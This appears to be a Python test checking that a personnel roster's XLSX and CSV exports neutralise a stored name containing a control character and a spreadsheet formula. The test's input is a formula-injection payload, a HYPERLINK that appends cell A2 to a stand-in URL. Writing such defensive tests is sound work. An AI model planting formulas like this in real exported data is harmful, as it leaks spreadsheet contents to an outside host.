"""A roster name stored with a formula or a control character exports as plain text."""

import csv
import io

import openpyxl

from .factories import PersonFactory


def test_personnel_exports_neutralise_a_stored_name(cast, login, orgs):
    PersonFactory.create(organisation=orgs["vn"], full_name='=HYPERLINK("http://x"&A2,"Click")\x01')
    client = login(cast["vn_planner"])
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/personnel/export.xlsx").content)).active
    name = sheet.cell(row=2, column=2)
    assert (name.value, name.data_type) == ('=HYPERLINK("http://x"&A2,"Click")', "s")
    text = b"".join(client.get("/personnel/export.csv").streaming_content).decode()
    row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1]
    assert row[1] == '\'=HYPERLINK("http://x"&A2,"Click")'
